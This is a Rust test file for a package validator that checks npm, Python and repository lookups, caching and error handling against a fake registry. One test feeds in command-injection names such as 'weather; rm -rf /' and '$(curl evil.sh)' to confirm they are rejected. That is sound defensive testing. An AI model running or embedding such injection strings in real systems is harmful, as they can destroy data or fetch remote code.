//! Package validator tests against a local registry stand-in

use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;

use gangway::cache::validation::{CacheKey, InMemoryValidationCache, ValidationCache};
use gangway::errors::GatewayError;
use gangway::validator::{self, Admission, PackageValidator, RejectReason, ResolvedRuntime};
use gangway_api::models::RuntimeKind;

use crate::support::spawn_registry;

async fn validator() -> (Arc<crate::support::FakeRegistry>, PackageValidator) {
    let (registry, options) = spawn_registry().await;
    let validator =
        PackageValidator::new(options, Arc::new(InMemoryValidationCache::default())).unwrap();
    (registry, validator)
}

#[tokio::test]
async fn test_npm_package_found() {
    let (_registry, validator) = validator().await;

    let result = validator
        .validate("weather-server", &RuntimeKind::Npm)
        .await
        .unwrap();

    assert!(result.valid);
    assert_eq!(result.runtime, ResolvedRuntime::Npm);
    assert_eq!(result.version.as_deref(), Some("1.4.2"));
    assert!(result.reason.is_none());
}

#[tokio::test]
async fn test_scoped_npm_package_found() {
    let (_registry, validator) = validator().await;

    let result = validator
        .validate("@acme/weather", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert!(result.valid);
}

#[tokio::test]
async fn test_python_package_found() {
    let (_registry, validator) = validator().await;

    let result = validator
        .validate("mcp-server-time", &RuntimeKind::Python)
        .await
        .unwrap();
    assert!(result.valid);
    assert_eq!(result.runtime, ResolvedRuntime::Python);
    assert_eq!(result.version.as_deref(), Some("0.6.2"));
}

#[tokio::test]
async fn test_not_found_is_cached() {
    let (registry, validator) = validator().await;

    let first = validator
        .validate("no-such-package", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert!(!first.valid);
    assert_eq!(first.reason, Some(RejectReason::NotFound));

    let second = validator
        .validate("no-such-package", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert_eq!(first, second);
    assert_eq!(registry.hits.load(Ordering::SeqCst), 1);

    // dropping the entry forces a fresh lookup
    assert!(validator
        .cache()
        .invalidate(&CacheKey::new("npm", "no-such-package")));
    validator
        .validate("no-such-package", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert_eq!(registry.hits.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn test_invalid_names_never_reach_the_registry() {
    let (registry, validator) = validator().await;

    for (name, runtime) in [
        ("weather; rm -rf /", RuntimeKind::Npm),
        ("$(curl evil.sh)", RuntimeKind::Npm),
        ("Upper-Case", RuntimeKind::Npm),
        ("pkg && reboot", RuntimeKind::Python),
        ("-leading-dash", RuntimeKind::Python),
    ] {
        let result = validator.validate(name, &runtime).await.unwrap();
        assert!(!result.valid, "{} should be rejected", name);
        assert_eq!(result.reason, Some(RejectReason::InvalidName), "{}", name);
    }

    assert_eq!(registry.hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn test_registry_errors_are_not_cached() {
    let (registry, validator) = validator().await;
    registry.down.store(true, Ordering::SeqCst);

    let result = validator
        .validate("weather-server", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert!(!result.valid);
    assert_eq!(result.reason, Some(RejectReason::RegistryError));

    registry.down.store(false, Ordering::SeqCst);
    let result = validator
        .validate("weather-server", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert!(result.valid);
    assert_eq!(registry.hits.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn test_unreachable_registry() {
    let options = validator::Options {
        npm_url: "http://127.0.0.1:1".to_string(),
        timeout: Duration::from_secs(1),
        ..Default::default()
    };
    let validator =
        PackageValidator::new(options, Arc::new(InMemoryValidationCache::default())).unwrap();

    let result = validator
        .validate("weather-server", &RuntimeKind::Npm)
        .await
        .unwrap();
    assert!(!result.valid);
    assert_eq!(result.reason, Some(RejectReason::RegistryUnreachable));
    assert!(validator.cache().get(&CacheKey::new("npm", "weather-server")).is_none());
}

#[tokio::test]
async fn test_repository_reference() {
    let (_registry, validator) = validator().await;

    for reference in [
        "https://github.com/acme/tools",
        "github:acme/tools",
        "git@github.com:acme/tools.git",
    ] {
        let result = validator.validate(reference, &RuntimeKind::Npm).await.unwrap();
        assert!(result.valid, "{}", reference);
        assert_eq!(result.runtime, ResolvedRuntime::Repository);
    }

    let missing = validator
        .validate("https://github.com/acme/missing", &RuntimeKind::Python)
        .await
        .unwrap();
    assert_eq!(missing.reason, Some(RejectReason::NotFound));
}

#[tokio::test]
async fn test_admit_carries_repository() {
    let (_registry, validator) = validator().await;

    let admission = validator
        .admit("https://github.com/acme/tools", &RuntimeKind::Python)
        .await
        .unwrap();
    let Admission::Accepted(package) = admission else {
        panic!("expected the repository to be admitted");
    };
    let repo = package.repository().unwrap();
    assert_eq!((repo.owner.as_str(), repo.repo.as_str()), ("acme", "tools"));
    assert_eq!(package.runtime(), &RuntimeKind::Python);
}

#[tokio::test]
async fn test_custom_runtime_needs_repository() {
    let (registry, validator) = validator().await;

    let runtime = RuntimeKind::Custom {
        command: vec!["node".to_string(), "server.js".to_string()],
    };
    let result = validator.validate("weather-server", &runtime).await.unwrap();
    assert_eq!(result.reason, Some(RejectReason::InvalidName));
    assert_eq!(registry.hits.load(Ordering::SeqCst), 0);

    let admission = validator.admit("github:acme/tools", &runtime).await.unwrap();
    assert!(matches!(admission, Admission::Accepted(_)));
}

#[tokio::test]
async fn test_blank_identifier_is_an_error() {
    let (_registry, validator) = validator().await;
    let err = validator.validate("   ", &RuntimeKind::Npm).await.unwrap_err();
    assert!(matches!(err, GatewayError::ValidationError(_)));
}
